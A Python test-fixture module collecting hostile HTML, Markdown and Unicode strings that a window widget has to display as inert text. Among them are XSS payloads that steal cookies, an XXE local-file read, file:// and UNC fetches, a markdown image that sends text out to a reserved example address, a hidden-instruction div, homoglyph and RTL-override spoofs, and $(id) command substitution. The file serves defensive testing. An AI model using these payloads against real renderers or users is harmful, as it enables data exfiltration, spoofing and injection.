"""Texts that try to make a window fetch, open, run, hide or draw something; every one must stay text.

A widget that took one for markup would read `BAIT` from the disk, connect to `HOST`, or change its look.
"""

BAIT = "/tmp/reviewer-bait"  # it must never be opened
HOST = "198.51.100.7"  # an address that is reserved for examples
_URL = f"http://{HOST}/x.png"
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HTML = (
    f'<img src="file://{BAIT}.png">',
    f'<img src="{BAIT}.png">',
    f'<img src="{_URL}">',
    f'<img src="https://{HOST}/x.svg" width="2000" height="2000">',
    f'<img src="\\\\{HOST}\\share\\x.png">',
    f'<img src="//{HOST}/share/x.png">',
    f'<img src="qrc:{BAIT}.png">',
    f'<img src=":{BAIT}.png">',
    f'<img src="data:image/png;base64,{_PIXEL}">',
    f"<IMG SRC=file://{BAIT}.jpg>",
    f"<img\nsrc='file://{BAIT}.gif'>",
    f"<img src=x onerror=\"fetch('{_URL}')\">",
    '<a href="javascript:alert(1)">Approve</a>',
    f'<a href="file://{BAIT}.html">your invoice</a>',
    f'<a href="{_URL}">https://bank.example</a>',
    '<a href="data:text/html,<script>alert(1)</script>">open</a>',
    '<a href="vbscript:msgbox(1)">open</a>',
    '<a href="ms-settings:privacy">open</a>',
    "<b>bold</b> <i>italic</i> <u>underlined</u>",
    "<h1>Approved</h1>",
    '<font size="7" color="red">LOUD</font>',
    '<p style="font-size:900px">huge</p>',
    '<span style="color:#fff;background:#fff">invisible</span>',
    '<div style="display:none">hidden instruction</div>',
    f'<style>@import url("{_URL}"); * {{ font-size: 400px }}</style>',
    f'<div style="background-image:url({_URL})">x</div>',
    f'<body background="file://{BAIT}.bmp">x</body>',
    f'<table background="file://{BAIT}.bmp"><tr><td>x</td></tr></table>',
    f'<link rel="stylesheet" href="file://{BAIT}.css">',
    f'<object data="file://{BAIT}.html" type="text/html"></object>',
    f'<embed src="file://{BAIT}.svg">',
    f'<iframe src="{_URL}"></iframe>',
    f"<script src='{_URL}'></script>",
    "<script>alert(document.cookie)</script>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{BAIT}.png"/></svg>',
    '<svg onload="alert(1)"><rect width="9999" height="9999"/></svg>',
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{BAIT}.txt">]><x>&e;</x>',
    f'<?xml version="1.0"?><?xml-stylesheet href="file://{BAIT}.xsl"?><x/>',
    f'<meta http-equiv="refresh" content="0;url={_URL}">',
    f'<video src="{_URL}" poster="file://{BAIT}.png"></video>',
    f'<input type="image" src="file://{BAIT}.png">',
    "<!-- a comment that says what nobody reads -->",
    "<qt>rich</qt>",
    f'<html><img src="file://{BAIT}.png"></html>',
)
"""Markup that widgets guess."""

MARKDOWN = (
    f"![picture](file://{BAIT}.png)",
    f"![picture]({BAIT}.png)",
    f"![picture]({_URL})",
    f"![secret](http://{HOST}/collect?text=the+whole+letter)",
    f"![share](\\\\{HOST}\\share\\x.png)",
    f"![pixel](data:image/png;base64,{_PIXEL})",
    f"![by reference][r]\n\n[r]: file://{BAIT}.png",
    f"[![inside a link](file://{BAIT}.png)]({_URL})",
    f"[open](file://{BAIT}.html)",
    "[open](javascript:alert(1))",
    f"[https://bank.example](http://{HOST}/login)",
    f"[by reference][r]\n\n[r]: {_URL} 'with a title'",
    f"<http://{HOST}/auto>",
    f"http://{HOST}/auto2",
    f"[user](http://bank.example@{HOST}/)",
    '[title](https://a.example "<img src=x>")',
    f"---\nsecret: read file://{BAIT}.yaml\n---\ntext",
    "&#8238;drowssap&#x202c; &#x200b;zero&#x200b;width",
    f'```html\n<img src="file://{BAIT}.png">\n```',
    f'| a | b |\n|---|---|\n| ![x](file://{BAIT}.png) | <img src="{_URL}"> |',
    "# " + "A" * 300,
)
"""Markdown that a renderer would follow."""

CHARACTERS = (
    "pay\u202eexe.fdp",
    "pa\u200bss\u2060word\ufeff",
    "note\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "p\u0430ypal.com",
    "\x1b[2J\x1b]8;;http://198.51.100.7\x07click\x1b]8;;\x07",
    "over\rwritten\x08\x08",
    "nul\x00byte\u2028line\u2029paragraph",
    "Z" + "\u0301" * 200,
    "&lt;b&gt; &amp; && &File",
    "%s %n {0} ${HOME} `id` $(id)",
)
"""Characters that hide or pretend."""

PAYLOADS: tuple[str, ...] = (*HTML, *MARKDOWN, *CHARACTERS)
"""All of them."""
